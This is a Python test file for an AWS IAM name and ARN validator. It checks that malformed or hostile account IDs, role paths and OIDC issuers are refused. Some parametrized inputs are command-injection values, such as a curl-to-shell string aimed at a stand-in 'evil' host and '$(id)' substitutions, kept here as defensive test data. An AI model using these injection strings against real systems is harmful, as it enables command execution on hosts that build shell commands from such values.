"""What IAM takes in names, paths and ARNs: ASCII, and few signs of it.

Source: https://docs.aws.amazon.com/IAM/latest/UserGuide/reference_iam-quotas.html ("IAM name requirements").
"""

import string

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from irsa.rules import names
from irsa.rules.arns import check_issuer, parse_iam_arn
from irsa.rules.mistakes import Mistake
from irsa.rules.names import NameRule, check_name

ACCOUNT = "111122223333"
ALLOWED = string.ascii_letters + string.digits + "+=,.@_-"


def refused(arn: str, kind: str) -> bool:
    try:
        parse_iam_arn(arn, kind)
    except Mistake:
        return True
    return False


@pytest.mark.parametrize("aws_account", ["\u0661" * 12, "\uff11" * 12, f"{ACCOUNT[:-1]}\u0663", f"{ACCOUNT}\n"])
def test_aws_accounts_in_other_digits(aws_account: str) -> None:
    r"""The attack: digits of other scripts, which `\d` takes for digits, and a line break after the last one."""
    for kind in ("role", "policy", "oidc-provider"):
        assert refused(f"arn:aws:iam::{aws_account}:{kind}/x", kind)


@pytest.mark.parametrize(
    "resource", ["x;curl${IFS}evil|sh", "日本.example", "a b", "a\n", "$(id)", "a`id`", "a//b", "?a"]
)
def test_issuers_that_are_no_urls(resource: str) -> None:
    """The attack: an issuer that runs a command in `curl ISSUER/.well-known/openid-configuration`."""
    assert refused(f"arn:aws:iam::{ACCOUNT}:oidc-provider/{resource}", "oidc-provider")
    with pytest.raises(Mistake):
        check_issuer(f"https://{resource}")


@pytest.mark.parametrize(
    "host_path",
    [
        "oidc.eks.us-west-2.amazonaws.com/id/EXAMPLED539D4633E53DE1B71EXAMPLE",
        "oidc-eks.eusc-de-east-1.api.amazonwebservices.eu/id/0",
        "s3-us-west-2.amazonaws.com/my_bucket.oidc~1",
        "keycloak.example:8443/realms/my%20realm",
        "token.actions.githubusercontent.com",
    ],
)
def test_issuers_of_every_kind_of_cluster(host_path: str) -> None:
    assert not refused(f"arn:aws:iam::{ACCOUNT}:oidc-provider/{host_path}", "oidc-provider")
    assert check_issuer(f"https://{host_path}") == f"https://{host_path}"


@given(st.text(st.characters(max_codepoint=0x3000, exclude_characters="/"), min_size=1, max_size=70))
@example("a\n")
@example("x" * 65)
def test_a_role_name_in_an_arn_is_a_role_name(name: str) -> None:
    legal = len(name) <= 64 and set(name) <= set(ALLOWED)

    assert refused(f"arn:aws:iam::{ACCOUNT}:role/{name}", "role") is not legal
    if legal:
        assert check_name(name, names.ROLE) == name
    else:
        with pytest.raises(Mistake):
            check_name(name, names.ROLE)


@given(st.text(st.sampled_from(f"{ALLOWED}/*$(; ä\n"), max_size=12).map(lambda text: f"/{text}/"))
@example("/a*b$(id)/")
@example("/team/\n")
@example("//")
def test_a_path_that_is_taken_makes_an_arn_that_is_read(path: str) -> None:
    """The attack: the role path `/a*b$(id)/` was taken, and `irsa verify` then refused the ARN of that very role."""
    for kind, rule in (("role", names.ROLE_PATH), ("policy", names.MANAGED_POLICY_PATH)):
        try:
            check_name(path, rule)
        except Mistake:
            continue
        assert not refused(f"arn:aws:iam::{ACCOUNT}:{kind}{path}my-name", kind)
        assert set(path) <= set(f"{ALLOWED}/")


@pytest.mark.parametrize("rule", [each for each in vars(names).values() if isinstance(each, NameRule)])
def test_no_rule_takes_a_line_break_at_the_end(rule: NameRule) -> None:
    r"""The attack: `$` in a pattern lets one line break pass, which begins a line of its own wherever it is printed."""
    for name in ("a", "/a/", "us-west-2", "aws:a"):
        if rule not in (names.DESCRIPTION, names.AUDIENCE):
            with pytest.raises(Mistake):
                check_name(f"{name}\n", rule)
